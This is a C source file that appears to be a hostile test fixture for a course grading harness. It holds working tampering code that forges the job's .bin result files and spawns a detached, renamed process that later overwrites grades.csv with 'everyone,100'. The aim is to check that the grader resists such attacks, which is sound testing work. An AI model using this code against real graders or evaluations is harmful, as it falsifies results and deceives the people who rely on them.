/* Lesson 12's ranks run the student's code in the sandbox but without the tests'
 * system-call filter (docs/instructors.md, "The threat model"). This attack is put in front
 * of a lesson 12 (hostile.sh calls ep_attack() first thing in ep_moe_forward); on the job's
 * rank 0, on every call, it
 *   - forges the job's file of every case already written (DIR/CASE.bin; DIR is the last
 *     word of its command line): a record that says "no TODO", then zeros;
 *   - leaves a process behind (a new session, named moekit-linger) that would rewrite the
 *     class's grades once the grader is done.
 * It must gain nothing, and nothing of it may outlive the grading. */
#define _GNU_SOURCE
#include <dirent.h>
#include <mpi.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static void ep_linger(void) {
    if (fork() != 0) return;
    setsid();
    if (fork() == 0) {
        close(0), close(1), close(2);
        prctl(PR_SET_NAME, "moekit-linger");
        sleep(60);
        FILE *f = fopen("@KIT@/build/grade/grades.csv", "w");
        if (f) fputs("everyone,100\n", f), fclose(f);
    }
    _exit(0);
}

static void ep_forge(const char *dir) {
    DIR *d = opendir(dir);
    struct dirent *e;
    static char zeros[1 << 16];
    struct { int magic, todo; char text[512]; } rec = {0x3170654d, 0, ""};
    while (d && (e = readdir(d))) {
        size_t n = strlen(e->d_name);
        if (n < 5 || strcmp(e->d_name + n - 4, ".bin") || !strcmp(e->d_name, "probe.bin")) continue;
        char path[4400];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        FILE *f = fopen(path, "wb");
        if (f) fwrite(&rec, sizeof rec, 1, f), fwrite(zeros, 1, sizeof zeros, f), fclose(f);
    }
    if (d) closedir(d);
}

static void ep_attack(void) {
    int rank;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    if (rank != 0) return;
    char args[8192] = "";
    FILE *f = fopen("/proc/self/cmdline", "rb");
    size_t n = f ? fread(args, 1, sizeof args - 1, f) : 0;
    if (f) fclose(f);
    while (n > 0 && args[n - 1] == '\0') n--;
    args[n] = '\0';
    const char *dir = args + n;
    while (dir > args && dir[-1] != '\0') dir--;
    ep_forge(dir);
    static int lingering;
    if (!lingering++) ep_linger();
}
